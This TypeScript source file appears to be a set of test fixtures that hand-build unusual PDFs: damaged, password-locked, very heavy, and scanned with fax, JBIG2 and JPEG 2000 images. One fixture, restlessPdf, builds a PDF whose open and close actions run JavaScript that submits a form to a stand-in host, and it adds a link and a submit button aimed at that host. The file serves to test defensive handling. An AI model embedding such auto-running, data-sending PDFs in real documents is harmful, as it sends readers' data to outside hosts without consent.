import { randomFillSync } from 'node:crypto'
import type { OwnFile } from './library.ts'

// PDFs written by hand, for what no program would write that means well.

type Content = string | { dictionary: string; stream: Buffer }

/** A PDF of these objects, numbered from 1; the first is the catalogue. */
function pdfOf(objects: readonly Content[], trailer = ''): OwnFile['buffer'] {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  const length = () => pieces.reduce((sum, piece) => sum + piece.length, 0)
  for (const [place, content] of objects.entries()) {
    places.push(length())
    pieces.push(Buffer.from(`${place + 1} 0 obj\n`), ...written(content), Buffer.from('\nendobj\n'))
  }
  const start = length()
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  pieces.push(
    Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`),
    Buffer.from(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`),
  )
  return Buffer.concat(pieces)
}

function written(content: Content): Buffer[] {
  if (typeof content === 'string') return [Buffer.from(content)]
  const { dictionary, stream } = content
  return [Buffer.from(`<< ${dictionary} /Length ${stream.length} >>\nstream\n`), stream, Buffer.from('\nendstream')]
}

const file = (title: string, buffer: OwnFile['buffer']): OwnFile => ({
  name: `${title}.pdf`,
  mimeType: 'application/pdf',
  buffer,
})
const drawing = (text: string): Content => ({ dictionary: '', stream: Buffer.from(text) })
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'

/** One that would run a script, call another host, send a form there and open a file it carries. */
export function restlessPdf(title: string): OwnFile {
  const script = '/S /JavaScript /JS (app.alert("run"); this.submitForm("https://elsewhere.invalid/form");)'
  const link = '/Type /Annot /Subtype /Link /Rect [50 600 550 700] /Border [0 0 0]'
  return file(
    title,
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >>
        /AcroForm << /Fields [7 0 R] >> /Names << /JavaScript << /Names [(a) << ${script} >>] >> >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>
        /AA << /O << ${script} >> >> /Annots [6 0 R 7 0 R] >>`,
      drawing('BT /F 24 Tf 60 640 Td (Press here) Tj ET'),
      font,
      `<< ${link} /A << /S /URI /URI (https://elsewhere.invalid/link) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [50 400 550 500]
        /A << /S /SubmitForm /F << /FS /URL /F (https://elsewhere.invalid/submit) >> >> >>`,
    ]),
  )
}

/** One that no longer is one. */
export function damagedPdf(title: string): OwnFile {
  return file(title, Buffer.from(`%PDF-1.7\n${'nothing that could be read '.repeat(200)}`))
}

/** One that opens with a password only. */
export function lockedPdf(title: string): OwnFile {
  const key = '0'.repeat(64)
  return file(
    title,
    pdfOf(
      [
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
        `<< /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${key}> /U <${key}> >>`,
      ],
      '/Encrypt 4 0 R /ID [<00> <00>]',
    ),
  )
}

/** So many pages, and after all of them their pictures, each of so many pixels square. */
export function heavyPdf(title: string, pages: number, width: number): OwnFile {
  const places = Array.from({ length: pages }, (_, page) => page)
  const [contents, pictures] = [3 + pages, 3 + 2 * pages]
  const leaves = places.map(
    (page) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents + page} 0 R
      /Resources << /XObject << /P ${pictures + page} 0 R >> /Font << /F ${3 + 3 * pages} 0 R >> >> >>`,
  )
  const said = places.map((page) =>
    drawing(`q 400 0 0 400 100 300 cm /P Do Q BT /F 24 Tf 60 100 Td (Sheet ${page + 1}) Tj ET`),
  )
  const grey = `/ColorSpace /DeviceGray /BitsPerComponent 8`
  const noise = places.map(() => ({
    dictionary: `/Type /XObject /Subtype /Image /Width ${width} /Height ${width} ${grey}`,
    stream: randomFillSync(Buffer.alloc(width * width)),
  }))
  const kids = places.map((page) => `${3 + page} 0 R`).join(' ')
  const head = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`]
  return file(title, pdfOf([...head, ...leaves, ...said, ...noise, font]))
}

const size = 64

/** The left half black, in the coding of fax (ITU-T T.6). */
const fax = Buffer.from('JqDV///////////////////////////////4AIAI', 'base64')

/** From red above to blue below, in JPEG 2000. */
const jpeg2000 = Buffer.from(
  'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAQAAAAEAAAwcHAAAAAAAPY29scgEAAAAAABAAAAC6anAyY/9P/1EALwAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAAAwcBAQcBAQcBAf9SAAwAAAABAQUEBAAB/1wAE0BASEhQSEhQSEhQSEhQSEhQ/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS4w/5AACgAAAAAAMwAB/5PPpBgIkIrfAGALPYvfGEADlxGUgKIgCz2AgICAgICAgICAgICA/9k=',
  'base64',
)

/** The same as `fax`, in a segment of JBIG2 (ITU-T T.88): a page, and on it a generic region in that coding. */
function jbig2(): Buffer {
  const page = [...numbers(size, size, 0, 0), 0, 0, 0]
  const region = [...numbers(size, size, 0, 0), 0, 1, ...fax]
  return Buffer.from([...segment(0, 48, page), ...segment(1, 38, region)])
}

function segment(number: number, type: number, data: number[]): number[] {
  return [...numbers(number), type, 0, 1, ...numbers(data.length), ...data]
}

/** In four bytes each, the highest first. */
function numbers(...values: number[]): number[] {
  return values.flatMap((value) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255])
}

/** Three pages as old scanners made them: fax, JBIG2, JPEG 2000; each filled with its picture. */
export function scannedPdf(title: string): OwnFile {
  const twoTone = `/ColorSpace /DeviceGray /BitsPerComponent 1`
  const pictures = [
    {
      dictionary: `${twoTone} /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns ${size} /Rows ${size} >>`,
      stream: fax,
    },
    { dictionary: `${twoTone} /Filter /JBIG2Decode`, stream: jbig2() },
    { dictionary: '/Filter /JPXDecode', stream: jpeg2000 },
  ]
  const leaves = pictures.flatMap(({ dictionary, stream }, page): Content[] => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents ${4 + page * 3} 0 R
      /Resources << /XObject << /P ${5 + page * 3} 0 R >> >> >>`,
    drawing('q 200 0 0 200 0 0 cm /P Do Q'),
    { dictionary: `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} ${dictionary}`, stream },
  ])
  const head = ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R 6 0 R 9 0 R] /Count 3 >>']
  return file(title, pdfOf([...head, ...leaves]))
}
